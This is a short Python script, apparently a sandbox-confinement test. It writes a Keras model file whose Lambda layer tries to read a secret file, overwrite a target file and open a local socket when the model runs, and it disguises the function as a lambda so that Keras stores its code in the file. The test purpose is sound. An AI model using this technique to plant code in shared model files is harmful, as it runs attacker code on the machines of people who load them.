"""A Keras file whose Lambda layer tries to get out: `python lambda_model.py FILE SECRET TARGET PORT`, in an environment with Keras.

The layer reads SECRET, writes TARGET and connects to PORT; the error that it ends with says what it reached and what not.
"""

import os
import sys

import keras

file, secret, target, port = sys.argv[1:]
os.environ["MAKING"] = "the layer is called while the model is built, too"


def escape(tensor):
    import os
    import socket
    from pathlib import Path

    if "MAKING" in os.environ:
        return tensor
    secret, target, port = ("SECRET", "TARGET", "PORT")
    said = []
    for name, action in (
        ("read", lambda: Path(secret).read_text()),
        ("write", lambda: Path(target).write_text("owned")),
        ("connect", lambda: socket.create_connection(("127.0.0.1", port), timeout=5)),
    ):
        try:
            action()
            said.append(f"ESCAPED: {name}")
        except OSError as error:
            said.append(f"CONFINED: {name}: {error.strerror}")
    raise RuntimeError("; ".join(said))


escape.__name__ = "<lambda>"  # Keras writes the code of a lambda, and the name of any other function
code = escape.__code__
words = {("SECRET", "TARGET", "PORT"): (secret, target, int(port))}
escape.__code__ = code.replace(co_consts=tuple(words.get(c, c) if isinstance(c, tuple) else c for c in code.co_consts))
x = keras.Input((4,), name="x")
keras.Model(x, keras.layers.Lambda(escape, output_shape=(4,), name="escapes")(x)).save(file)
